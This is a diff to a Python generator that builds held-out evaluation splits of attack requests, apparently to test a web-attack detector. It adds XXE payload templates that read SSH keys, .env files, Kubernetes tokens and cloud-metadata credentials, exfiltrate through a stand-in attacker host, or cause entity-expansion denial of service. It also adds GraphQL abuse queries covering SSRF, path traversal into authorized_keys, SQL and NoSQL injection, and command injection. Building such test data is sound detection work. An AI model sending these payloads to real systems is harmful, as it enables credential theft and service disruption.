@@ -18,7 +18,7 @@ XXE = {
         ('<!DOCTYPE lolz [<!ENTITY a "§lower§"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><lolz>&d;</lolz>'),
         ('<!DOCTYPE §lower#r§ [<!ENTITY §lower#e§ SYSTEM "php://filter/convert.base64-encode/resource=⟦index.php¦config.php⟧">]><§lower#r§>&§lower#e§;</§lower#r§>'),
     ),
-    "test": (
+    "seen": (
         ('<!DOCTYPE §word#r§ [⏎  <!ELEMENT §word#r§ ANY>⏎  <!ENTITY §ident#e§ SYSTEM "⟦file:///c:/windows/win.ini¦file:///proc/self/environ¦file:///etc/fstab¦file:///root/.ssh/id_rsa¦file:///var/www/.env⟧">⏎]>⏎<§word#r§ v="§digit§">&§ident#e§;</§word#r§>'),
         ('<!DOCTYPE §word#r§ PUBLIC "-//§upper§//DTD §upword§//EN" "http://§evil§/⟦a.dtd¦§lower§⟧"><§word#r§><id>§int§</id></§word#r§>'),
         ('<!DOCTYPE §word#r§ [<!ENTITY % §lower#a§ SYSTEM "file:///etc/⟦hostname¦issue⟧"><!ENTITY % §lower#b§ SYSTEM "⟦http¦ftp⟧://§evil§/§lower§.dtd">%§lower#b§;%all;]><§word#r§>&send;</§word#r§>'),
@@ -33,11 +33,37 @@ XXE = {
         ('<!DOCTYPE §word#r§ [<!ENTITY §ident#e§ SYSTEM "http://169.254.169.254/latest/⟦user-data¦meta-data/iam/security-credentials/⟧">]><§word#r§><![CDATA[§word§]]>&§ident#e§;</§word#r§>'),
         ('<!DOCTYPE §word#r§ [<!ENTITY % begin "<![CDATA["><!ENTITY % goodies SYSTEM "file:///⟦srv/app/settings.py¦etc/tomcat/tomcat-users.xml⟧"><!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "http://§evil§/join.dtd"> %dtd;]><§word#r§>&all;</§word#r§>'),
     ),
+    "test": (
+        ('<!DOCTYPE soap:Envelope [<!ENTITY §ident#e§ SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/⟦token¦namespace⟧">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><§word#r§><id>&§ident#e§;</id></§word#r§></soap:Body></soap:Envelope>'),
+        ('<!DOCTYPE methodCall [<!ENTITY §ident#e§ SYSTEM "file:///⟦home/§user§/.bash_history¦etc/ssh/sshd_config¦opt/app/.env⟧">]><methodCall><methodName>§word§.§verb§</methodName><params><param><value><string>&§ident#e§;</string></value></param></params></methodCall>'),
+        ('<!DOCTYPE rss [<!ENTITY §ident#e§ SYSTEM "⟦file:///etc/apache2/apache2.conf¦http://§private§:9200/_cat/indices⟧">]><rss version="2.0"><channel><title>&§ident#e§;</title><item><title>§upword§</title></item></channel></rss>'),
+        ('<!DOCTYPE samlp:Response [<!ENTITY §ident#e§ SYSTEM "http://§evil§/§lower§">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_§hex32§" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&§ident#e§;</saml:Issuer></samlp:Response>'),
+        ('<!DOCTYPE w:document [<!ENTITY §ident#e§ SYSTEM "file:///etc/⟦passwd¦resolv.conf⟧">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&§ident#e§;</w:t></w:r></w:p></w:body></w:document>'),
+        ('<!DOCTYPE sst [<!ENTITY % §lower#p§ SYSTEM "http://§evil§/§lower§.⟦dtd¦ent⟧">%§lower#p§;]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1"><si><t>§word§</t></si></sst>'),
+        ('<!DOCTYPE D:propfind [<!ENTITY §ident#e§ SYSTEM "file:///⟦etc/passwd¦c:/windows/system32/drivers/etc/hosts⟧">]><D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&§ident#e§;</D:displayname></D:prop></D:propfind>'),
+        ('<!DOCTYPE plist [<!ENTITY §ident#e§ SYSTEM "file:///⟦private/etc/master.passwd¦etc/hosts⟧">]><plist version="1.0"><dict><key>§upword§</key><string>&§ident#e§;</string></dict></plist>'),
+        ('<!DOCTYPE gpx [<!ENTITY §ident#e§ SYSTEM "http://metadata.google.internal/computeMetadata/v1/⟦project/project-id¦instance/service-accounts/default/token⟧">]><gpx version="1.1"><wpt lat="§decimal§" lon="§decimal§"><name>&§ident#e§;</name></wpt></gpx>'),
+        ('<!DOCTYPE §word#r§ [<!ENTITY % §lower#a§ "<!ENTITY &#37; §lower#b§ SYSTEM \'http://§evil§/§lower§\'>">%§lower#a§;%§lower#b§;]><§word#r§/>'),
+        ('<!DOCTYPE §word#r§ [<!ENTITY % §lower#a§ "⟪entx:<!ENTITY % x SYSTEM "http://§evil§/">%x;⟫">%§lower#a§;]><§word#r§>§int§</§word#r§>'),
+        ('<!DOCTYPE §word#r§ [<!ENTITY % §lower#p§ SYSTEM "data:⟦//text/plain;base64¦text/plain;base64⟧,⟪b64:<!ENTITY e SYSTEM "file:///etc/passwd">⟫">%§lower#p§;]><§word#r§>&e;</§word#r§>'),
+        ('<!DOCTYPE §word#r§ [⏎<!-- §sentence§ -->⏎<!ENTITY⇥§ident#e§⏎SYSTEM⏎⇥\'file:///⟦etc/passwd¦etc/hosts¦proc/1/cgroup⟧\'⏎>⏎]⏎>⏎<§word#r§>&§ident#e§;</§word#r§>'),
+        ('<!DOCTYPE §word#r§ [<!ENTITY §ident#e§ SYSTEM "php://filter/⟦zlib.deflate/convert.base64-encode¦read=string.rot13¦convert.iconv.utf-8.utf-16⟧/resource=⟦/etc/passwd¦../.env¦/var/www/html/wp-config.php⟧">]><§word#r§ type="§lower§">&§ident#e§;</§word#r§>'),
+        ('<!DOCTYPE §word#r§ [<!ENTITY §ident#e§ SYSTEM "⟦compress.zlib:///etc/passwd¦phar:///tmp/§lower§.jpg¦zip:///tmp/§lower§.zip¦ogg:///etc/hosts⟧">]><§word#r§>&§ident#e§;</§word#r§>'),
+        ('<!DOCTYPE §word#r§ [<!ENTITY §ident#e§ SYSTEM "⟦ldap://§evil§:389/§lower§¦dict://§private§:11211/stats¦sftp://§evil§:22/¦tftp://§evil§:69/§lower§⟧">]><§word#r§>&§ident#e§;</§word#r§>'),
+        ('<!DOCTYPE §word#r§ [<!ENTITY §ident#a§ "⟪rep:§rand§§rand§§rand§§rand§§rand§§rand§§rand§§rand§⟫">]><§word#r§>⟪rep:&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;&§ident#a§;⟫</§word#r§>'),
+        ('<!DOCTYPE §word#r§ [<!ENTITY §lower#a§ "&§upper#b§;"><!ENTITY §upper#b§ "&§lower#a§;">]><§word#r§>&§lower#a§;</§word#r§>'),
+        ('<!DOCTYPE §word#r§ [<!ENTITY % §lower#p§0 "<!---->"><!ENTITY % §lower#p§1 "&#37;§lower#p§0;&#37;§lower#p§0;&#37;§lower#p§0;&#37;§lower#p§0;"><!ENTITY % §lower#p§2 "&#37;§lower#p§1;&#37;§lower#p§1;&#37;§lower#p§1;&#37;§lower#p§1;"><!ENTITY % §lower#p§3 "&#37;§lower#p§2;&#37;§lower#p§2;&#37;§lower#p§2;&#37;§lower#p§2;">%§lower#p§3;]><§word#r§/>'),
+        ('<xsl:stylesheet version="⟦2.0¦3.0⟧" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="unparsed-text(\'⟦file:///etc/passwd¦/etc/hosts¦http://§evil§/⟧\', \'utf-8\')"/></xsl:template></xsl:stylesheet>'),
+        ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:⟦include¦import⟧ href="http://§evil§/§lower§.xsl"/><xsl:template match="/"><§word§/></xsl:template></xsl:stylesheet>'),
+        ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude" width="§int§" height="§int§"><text y="20"><xi:include href="⟦file:///etc/passwd¦file:///etc/hostname¦http://§evil§/§lower§⟧" parse="text"><xi:fallback>§word§</xi:fallback></xi:include></text></svg>'),
+        ('<!DOCTYPE manifest [<!ENTITY % §lower#p§ SYSTEM "ftp://§evil§:2121/§lower§"> %§lower#p§;]><manifest package="com.§word§.§word§" xmlns:android="http://schemas.android.com/apk/res/android"><application android:label="§upword§"/></manifest>'),
+    ),
 }
 XXE_PLACES = {"raw": 3, "xml": 2, "multipart": 1.2, "form": 1, "query": 1, "json": 0.7, "graphql": 0.4, "cookie": 0.3}
 ENCODINGS = {
     "val": ("utf-8", "utf-8", "utf-16-le-bom", "utf-16-be-bom", "cp037"),
-    "test": ("utf-8", "utf-8", "utf-8-bom", "utf-16-le-bom", "utf-16-be-bom", "utf-16-le", "utf-16-be", "utf-7", "utf-7", "cp037", "cp037", "utf-32-be", "latin-1"),
+    "seen": ("utf-8", "utf-8", "utf-8-bom", "utf-16-le-bom", "utf-16-be-bom", "utf-16-le", "utf-16-be", "utf-7", "utf-7", "cp037", "cp037", "utf-32-be", "latin-1"),
+    "test": ("utf-8", "utf-8", "us-ascii", "windows-1252", "utf-16-le-bom", "utf-16-be", "utf-32-le", "cp500", "cp1140"),
 }
 
 
@@ -49,6 +75,8 @@ def xml_bytes(rng, document, encoding):
         "utf-16-le": ("UTF-16LE", "utf-16-le", b""), "utf-16-be": ("UTF-16BE", "utf-16-be", b""),
         "utf-7": ("UTF-7", "utf-7", b""), "cp037": (rng.choice(["IBM037", "CP037"]), "cp037", b""),
         "utf-32-be": ("UTF-32", "utf-32-be", b"\x00\x00\xfe\xff"), "latin-1": ("ISO-8859-1", "latin-1", b""),
+        "us-ascii": ("US-ASCII", "ascii", b""), "windows-1252": ("windows-1252", "cp1252", b""), "utf-32-le": ("UTF-32", "utf-32-le", b"\xff\xfe\x00\x00"),
+        "cp500": ("IBM500", "cp500", b""), "cp1140": ("IBM01140", "cp1140", b""),
     }[encoding]
     declaration = "<?xml version=%s encoding=%s?>" % tuple(rng.choice("'\"").join(["", text, ""]) for text in ("1.0", label)) + rng.choice(["", "\n"])
     declaration = declaration if encoding != "utf-8" or rng.random() < 0.8 else ""
@@ -57,16 +85,21 @@ def xml_bytes(rng, document, encoding):
     return mark + (declaration + document).encode(codec, "replace")
 
 
+def of(table, split):
+    """What a table has for a split, of all its sections."""
+    return [one for section in grammar.SECTIONS[split] for one in table[section]]
+
+
 def xxe(split, seed, dataset, kind):
     from heldout import build
     rng = random.Random("%s/%s/%d" % (dataset, split, seed))
     counts, seen, made = {}, set(), []
     while len(made) < build.COUNT[split]:
-        production = rng.choice(XXE[split])
+        production = rng.choice(of(XXE, split))
         document = grammar.expand(rng, production)
         where = build.next_place(rng, counts, list(XXE_PLACES), XXE_PLACES)
         request = carrier.Request(rng, rng.choice(build.fitting(split, where, False)))
-        encoding = rng.choice(ENCODINGS[split]) if where in ("raw", "xml") else "utf-8"
+        encoding = rng.choice(of(ENCODINGS, split)) if where in ("raw", "xml") else "utf-8"
         content = xml_bytes(rng, document, encoding)
         if where in ("raw", "xml"):
             request.media, request.bytes = rng.choice(["application/xml", "text/xml", "application/soap+xml", "image/svg+xml"]) + ("" if encoding != "utf-7" or rng.random() < 0.5 else "; charset=utf-7"), content
@@ -96,10 +129,9 @@ def repeat(rng, low, high, make, joint=" "):
     return joint.join(make(n) for n in range(rng.randint(low, high)))
 
 
-def graphql_val(rng):
-    """One abusive document, of the kinds kept for val."""
+def graphql_val(rng, shape):
+    """One abusive document, of the kinds in [val]."""
     word = words.pick(rng, "word")
-    shape = rng.randrange(4)
     if shape == 0:
         return "{ __schema { types { name fields { name type { name kind ofType { name } } args { name } } } } }" if rng.random() < 0.5 else "query %s { __schema { queryType { name } mutationType { name } types { ...F } } } fragment F on __Type { kind name description fields(includeDeprecated: true) { name } }" % word
     if shape == 1:
@@ -110,10 +142,9 @@ def graphql_val(rng):
     return 'query { %s(id: "%s") { id } }' % (words.pick(rng, "thing"), grammar.expand(rng, "§id§' ⟦OR '1'='1¦UNION SELECT §column§ FROM §table§--⟧"))
 
 
-def graphql_test(rng):
-    """One abusive document, of the kinds kept for test."""
+def graphql_seen(rng, shape):
+    """One abusive document, of the kinds in [seen]."""
     word, other = words.pick(rng, "word"), words.pick(rng, "thing")
-    shape = rng.randrange(9)
     if shape == 0:
         return 'query { __type(name: "%s") { name kind fields(includeDeprecated: true) { name args { name defaultValue type { name } } type { name ofType { name } } } inputFields { name } } __typename }' % rng.choice(["User", "Query", "Mutation", "Admin", word.capitalize()])
     if shape == 1:
@@ -134,6 +165,51 @@ def graphql_test(rng):
     return "query { systemDiagnostics(cmd: \"%s\") }" % rng.choice(["id", "cat /etc/passwd", "; uname -a", "whoami && ls"])
 
 
+def graphql_test(rng, shape):
+    """One abusive document, of the kinds in [test]."""
+    word, type_ = words.pick(rng, "word"), words.pick(rng, "thing").capitalize()
+    fill = lambda text: grammar.expand(rng, text)
+    if shape == 0:  # introspection that goes round a filter for "__schema {"
+        return rng.choice(["query{__schema\n{queryType{name}subscriptionType{name}}}", "query %s { ...S } fragment S on Query { __schema { directives { name locations args { name } } } }" % word,
+                           "{ s: __schema,{ types { name kind possibleTypes { name } interfaces { name } enumValues(includeDeprecated: true) { name isDeprecated } } } }"]).replace("{ ...", "{%s..." % rng.choice([" ", "\n", "\t"])) + "\n" * rng.randint(0, 3)
+    if shape == 1:  # Apollo federation: the schema of a subgraph, entities past the gateway
+        return rng.choice(["query %s { _service { sdl } __schema { types { name fields { name } } } }" % word, 'query { _entities(representations: [{__typename: "%s", id: "%s"}]) { ... on %s { id email passwordHash } } }' % (type_, words.atom(rng, "id"), type_)])
+    if shape == 2:
+        return "query { " + repeat(rng, 60, 220, lambda n: "u%d: user(id: %d) { email phone passwordHash resetToken }" % (n, n + 1)) + " }"
+    if shape == 3:  # fragments that double at each level
+        depth = rng.randint(10, 26)
+        return "query %s { ...F0 } " % word + " ".join("fragment F%d on Query { ...F%d ...F%d }" % (n, n + 1, n + 1) for n in range(depth)) + " fragment F%d on Query { __typename }" % depth
+    if shape == 4:
+        depth = rng.randint(150, 900)
+        return "query { %s(filter: %s1%s) { id } }" % (word, "[" * depth, "]" * depth)
+    if shape == 5:
+        depth = rng.randint(25, 90)
+        return "query %s { items(where: " % word + "".join("{%s: [" % rng.choice(["and", "or", "not"]) for _ in range(depth)) + '{id: {eq: "%s"}}' % words.atom(rng, "id") + "]}" * depth + ") { id } }"
+    if shape == 6:
+        return "query { " + repeat(rng, 120, 500, lambda n: "alias%d:__typename" % n, rng.choice([" ", "\n", ","])) + " }"
+    if shape == 7:
+        return fill('mutation { ⟦importPaste(host: "169.254.169.254", port: 80, path: "/latest/meta-data/", scheme: "http") { result }¦importFromUrl(url: "http://⟦169.254.169.254/latest/user-data¦§private§:§port§/¦localhost:2375/containers/json⟧") { id status }⟧ }')
+    if shape == 8:
+        return fill('mutation §word§ { ⟦uploadPaste(content: "§rand§", filename: "¦saveFile(data: "§rand§", path: "⟧../../../../../⟦tmp/§lower§¦var/www/html/§lower§.php¦root/.ssh/authorized_keys⟧") { result } }')
+    if shape == 9:
+        return fill('{ §thing§s(options: "{\\"limit\\": 1, \\"§column§\\": 1}", search: "{\\"§column§\\": {\\"$⟦regex\\": \\".*¦ne\\": \\"§rand§⟧\\"}, \\"role\\": \\"admin\\"}") { id §column§ } }')
+    if shape == 10:
+        return fill('query { §table§(orderBy: "⟦id; SELECT pg_sleep(§small§)--¦(CASE WHEN (SELECT 1 FROM pg_user LIMIT 1)=1 THEN id ELSE name END)¦name,(SELECT sleep(§small§))¦id; WAITFOR DELAY \'0:0:§small§\'--⟧") { id } }')
+    if shape == 11:
+        return fill('query { users(where: {⟦password¦resetToken¦apiKey⟧: {⟦_like¦_ilike¦startsWith¦_similar⟧: "§lower§%"}}, limit: §big§) { id email password resetToken } }')
+    return "query %s { " % word + repeat(rng, 40, 160, lambda n: '... on Query @defer(label: "d%d") { %s%d: slowReport { total } }' % (n, word, n)) + " }"
+
+
+SHAPES = {"val": (graphql_val, 4), "seen": (graphql_seen, 9), "test": (graphql_test, 13)}
+PATHS = {"val": ("/graphql", "/api"), "seen": ("/graphql", "/api/graphql", "/v1/graphql", "/query", "/gql", "/graphql/console"), "test": ("/graphql", "/graphql/v2", "/api/gql", "/backend/graphql", "/_graphql", "/admin/api/graphql.json", "/wp/graphql")}
+
+
+def graphql_document(rng, split):
+    """One abusive document of a split, each kind of its sections equally likely."""
+    make, shape = rng.choice([(make, shape) for make, count in (SHAPES[section] for section in grammar.SECTIONS[split]) for shape in range(count)])
+    return balanced(make(rng, shape))
+
+
 def balanced(document):
     return document + " }" * (document.count("{") - document.count("}"))
 
@@ -144,19 +220,18 @@ GRAPHQL_PLACES = {"graphql": 4, "json": 2, "query": 2, "raw": 1.5, "form": 1, "m
 def graphql(split, seed, dataset, kind):
     from heldout import build
     rng = random.Random("%s/%s/%d" % (dataset, split, seed))
-    make = {"val": graphql_val, "test": graphql_test}[split]
     counts, seen, made = {}, set(), []
     while len(made) < build.COUNT[split]:
-        document = balanced(make(rng))
+        document = graphql_document(rng, split)
         where = build.next_place(rng, counts, list(GRAPHQL_PLACES), GRAPHQL_PLACES)
         if document in seen and rng.random() < 0.97:
             continue
         request = carrier.Request(rng, rng.choice(build.fitting(split, where, False)))
-        request.path = rng.choice(["/graphql", "/api/graphql", "/v1/graphql", "/query", "/gql", "/graphql/console"]) if split == "test" else rng.choice(["/graphql", "/api"])
+        request.path = rng.choice(of(PATHS, split))
         if where == "graphql":
             request.body = {"query": document, "variables": {}} if rng.random() < 0.6 else {"operationName": None, "variables": None, "query": document}
         elif where == "json":  # a batch: the same abuse many times in one array
-            request.body = [{"query": balanced(make(rng)) if n else document} for n in range(rng.randint(2, 6))]
+            request.body = [{"query": graphql_document(rng, split) if n else document} for n in range(rng.randint(2, 6))]
         elif where == "query":
             if len(document) > 6000:
                 continue
